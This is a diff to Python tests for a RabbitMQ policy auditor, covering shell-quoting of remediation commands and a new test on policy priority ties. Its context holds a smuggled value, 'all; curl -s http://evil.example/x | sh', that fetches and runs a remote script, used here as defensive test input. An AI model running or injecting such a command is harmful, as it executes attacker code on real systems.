@@ -182,3 +182,14 @@ def test_apply_to_from_the_api_is_shell_quoted_in_the_remediation() -> None:
     [finding] = judge(facts(management(policies=[evil])), "HA006").findings
     assert "--apply-to 'all; curl -s http://evil.example/x | sh'" in finding.remediation
     assert shlex.split(finding.remediation.split("rabbitmqctl", 1)[1])[-1] == "all; curl -s http://evil.example/x | sh"
+
+
+def test_live_tie_that_decides_mirroring_is_not_resolved_by_api_order_issue_16_8() -> None:
+    """/api/policies lists by name; RabbitMQ breaks ties in its runtime-parameters order: no winner named."""
+    tie_a = policy("a-ttl", r"^orders\.", {"message-ttl": 1000}, 3)
+    tie_b = policy("b-ha", r"^orders\.", {"ha-mode": "all"}, 3)
+    for order in ([tie_a, tie_b], [tie_b, tie_a]):
+        report = judge(facts(management(policies=order, queues=[queue("orders.1")]),
+                             replicated=[r"^orders\."]), "HA012")
+        assert [f.outcome for f in report.findings] == ["unknown"] and [c.status for c in report.checks] == ["unknown"]
+        assert "disagree on mirroring" in (report.checks[0].reason or "")
